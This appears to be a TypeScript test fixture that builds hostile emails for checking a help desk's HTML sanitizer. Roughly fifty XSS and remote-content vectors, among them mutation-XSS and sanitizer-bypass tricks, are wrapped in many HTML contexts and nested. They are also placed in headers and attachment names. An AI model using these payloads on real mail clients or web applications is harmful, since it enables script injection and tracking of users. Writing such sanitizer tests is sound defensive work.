/** Hostile mails for the desk's pages: vectors of script and of remote content, each in many contexts of a mail. */

/** What counts as a break: `pwned()` runs, or anything is asked of this host. */
const host = "https://canary.example";
const call = "window.pwned=1;alert(1)";

/** Ways to run a script or fetch something, as HTML. */
const vectors = [
  `<script>${call}</script>`,
  `<script src="${host}/s.js"></script>`,
  `<img src=x onerror="${call}">`,
  `<img src="${host}/i.png">`,
  `<img srcset="${host}/set.png 1x" src="cid:a">`,
  `<svg onload="${call}"></svg>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><image href="${host}/svg.png" /></svg>`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s></svg>`,
  `<svg><style><img src=x onerror="${call}"></style></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="${host}/frame"></iframe>`,
  `<object data="${host}/o.swf"></object>`,
  `<embed src="${host}/e.swf">`,
  `<link rel=stylesheet href="${host}/l.css">`,
  `<link rel=prefetch href="${host}/prefetch"><link rel=dns-prefetch href="${host}">`,
  `<style>@import url(${host}/c.css); *{background:url(${host}/b.png)}</style>`,
  `<meta http-equiv=refresh content="0;url=${host}/r">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="${host}/"><img src="rel.png">`,
  `<body background="${host}/bg.png" onload="${call}">`,
  `<table background="${host}/t.png"><td background="${host}/td.png">x</td></table>`,
  `<div style="background:url(${host}/d.png)">x</div>`,
  `<div style="background-image:\\75\\72\\6c(${host}/esc.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">over</div>`,
  `<p style="color:red;width:expression(${call});-moz-binding:url(${host}/x.xml)">x</p>`,
  `<video src="${host}/v.mp4" poster="${host}/p.png" autoplay onloadstart="${call}"></video>`,
  `<audio src="${host}/a.mp3" autoplay></audio>`,
  `<input autofocus onfocus="${call}">`,
  `<details open ontoggle="${call}"><summary>x</summary></details>`,
  `<marquee onstart="${call}">x</marquee>`,
  `<form action="${host}/f"><button autofocus onfocus="${call}">x</button></form>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="java&#10;script:${call}">x</a>`,
  `<a href="&#x6a;avascript:${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<a href="vbscript:${call}" ping="${host}/ping">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<textarea></textarea><img src=x onerror="${call}">`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
  `<title><p title="</title><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror="${call}">-->`,
  `<![CDATA[><img src=x onerror="${call}">]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
];

const rot = (html: string) => html.replace(/[<>"'&]/g, (char) => `&#${char.charCodeAt(0)};`);

/** Where a vector stands in the HTML of a mail. */
const contexts: ((vector: string) => string)[] = [
  (v) => v,
  (v) => `<p>before ${v} after</p>`,
  (v) => `<table><tr><td>${v}</table>`,
  (v) => `<p title="${v}">x</p>`,
  (v) => `<p title='${v.replaceAll("'", "")}' style="color:${v}">x</p>`,
  (v) => `<div dir="${v}" style='text-align:"${v}'>x</div>`,
  (v) => `<a href="https://ok.example/${v}">${v}</a>`,
  (v) => `<a href='https://ok.example/"><${v.slice(1)}'>x</a>`,
  (v) => `<!-- ${v} --!>${v}<!-- `,
  (v) => v.toUpperCase().replaceAll("PWNED", "pwned"),
  (v) => v.replace("<", "<\u0000").replace(/ on/g, "/on"),
  (v) => v.replace(/</g, "<<").replace(/>/g, ">>"),
  (v) => rot(v) + rot(rot(v)),
  (v) => v.slice(0, -1),
  (v) => `<svg></p><style><a id="</style>${v}">`,
  (v) => `<form><math><mtext></form><form><mglyph><style></math>${v}`,
  (v) => `<scr<script>ipt>${v}</scr</script>ipt>`,
  (v) => `<noembed>${v}</noembed><plaintext>${v}`,
  (v) => `</body></html></iframe></textarea></title>"'>${v}`,
  (v) => `<b><i><u>${"<span>".repeat(60)}${v}`,
];

/** The same contexts, one inside another: cleaners that look twice at what they cut are led astray by these. */
const nested = contexts.map(
  (outer, index): ((vector: string) => string) =>
    (vector) =>
      outer((contexts[(index + 7) % contexts.length] ?? outer)(vector)),
);
const places = [...contexts, ...nested];

export type HostileMail = { name: string; bytes: Buffer };

/** Every vector in every context, and in the subject, names, file names and text of the same mail. */
export function hostileMails(support: string, border: string): HostileMail[] {
  return vectors.flatMap((vector, v) =>
    places.map((context, c) => {
      const index = v * places.length + c;
      const word = (text: string) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
      const encoded = index % 3;
      const body = `<html><body>${context(vector)}</body></html>`;
      const [encoding, written] =
        encoded === 0
          ? [
              "base64",
              Buffer.from(body)
                .toString("base64")
                .replace(/(.{76})/g, "$1\r\n"),
            ]
          : ["8bit", body.replaceAll("\u0000", "")];
      const lines = [
        `Authentication-Results: ${border}; dmarc=pass header.from=shop.example`,
        "Received: from mail.example by mx.acme.example; Mon, 12 Oct 2026 08:00:00 +0000",
        `From: ${word(`Ada ${vector}`.slice(0, 120))} <ada@shop.example>`,
        `To: ${support}`,
        `Subject: ${word(`[A] ${vector}`.slice(0, 150))}`,
        `Message-ID: <hostile-${index}@shop.example>`,
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b1"',
        "",
        "--b1",
        'Content-Type: multipart/alternative; boundary="b2"',
        "",
        "--b2",
        "Content-Type: text/plain; charset=utf-8",
        "",
        `Hostile ${index}. ${context(vector).replaceAll("\u0000", "")}`,
        "--b2",
        "Content-Type: text/html; charset=utf-8",
        `Content-Transfer-Encoding: ${encoding}`,
        "",
        `${written}`,
        "--b2--",
        "--b1",
        "Content-Type: text/plain",
        `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(vector.slice(0, 60))}.txt`,
        "",
        "x",
        "--b1--",
        "",
      ];
      return { name: `${v}.${c}`, bytes: Buffer.from(lines.join("\r\n")) };
    }),
  );
}
